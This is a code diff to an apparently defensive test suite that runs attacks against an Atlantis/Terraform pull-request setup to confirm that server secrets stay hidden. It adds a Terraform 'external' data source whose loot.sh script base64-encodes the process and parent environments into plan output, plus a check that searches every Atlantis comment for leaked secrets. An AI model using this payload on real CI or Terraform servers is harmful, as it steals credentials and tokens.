@@ -3,7 +3,7 @@
 import re
 
 from attack.pull_requests import commented, planned
-from attack.row import Outcome, Row
+from attack.row import Outcome, Row, SkippedError
 from attack.secret_forms import found_in, shows
 from attack.target import Target
 
@@ -75,6 +75,44 @@ def _applied(target: Target) -> str:
     return target.once("local-exec", apply)
 
 
+_EXTERNAL = """
+terraform {
+  required_providers {
+    external = { source = "hashicorp/external" }
+  }
+}
+
+data "external" "loot" {
+  program = ["sh", "${path.module}/loot.sh"]
+}
+
+output "loot" {
+  value = data.external.loot.result.loot
+}
+"""
+_PROGRAM = """
+loot=$(cat /proc/self/environ "/proc/$PPID/environ" | base64 | tr -d '\\n')
+printf '{"loot": "%s"}' "$loot"
+"""
+_NOT_INSTALLED = "Failed to query available provider packages"
+
+
+def _by_external(target: Target) -> str:
+    files = {"main.tf": _EXTERNAL, "loot.sh": _PROGRAM}
+    text = target.once("external-program", lambda: planned(target, "external-program", files).text)
+    if _NOT_INSTALLED in text:
+        raise SkippedError("the sandbox reaches no registry, and this machine has no hashicorp/external for Terraform")
+    return text
+
+
+def _everything_written(target: Target) -> str:
+    """Every comment that Atlantis has written so far; of one hostile plan at least."""
+    target.once(
+        "file-own-environment", lambda: planned(target, "file-own-environment", {"main.tf": _OWN_ENVIRONMENT}).text
+    )
+    return "\n".join(entry["body"] for entry in target.github.recorded("comments"))
+
+
 _TAKEN_OVER = "the start of the container: secrets are in no environment"
 
 ROWS = (
@@ -107,5 +145,22 @@ ROWS = (
         refused_by=_TAKEN_OVER,
         attempt=lambda target: secrets_in(target, _applied(target)),
         control=lambda target: shown_in(_applied(target), _NOT_SECRET),
+    ),
+    Row(
+        name="external-program",
+        attack="Print the server's secrets by a program that a plan runs",
+        tried='a data source "external" whose program prints its own environment and that of its parent',
+        refused_by=_TAKEN_OVER,
+        attempt=lambda target: secrets_in(target, _by_external(target)),
+        control=lambda target: shown_in(_by_external(target), _NOT_SECRET),
+    ),
+    Row(
+        name="every-comment",
+        attack="Find a secret in whatever any pull request made Atlantis write",
+        tried="all comments of all attacks, searched for each secret and each of its lines: plain, JSON, base64 and hexadecimal",
+        refused_by="all of the above together",
+        attempt=lambda target: secrets_in(target, _everything_written(target)),
+        control=lambda target: shown_in(_everything_written(target), _NOT_SECRET),
+        alone=True,
     ),
 )
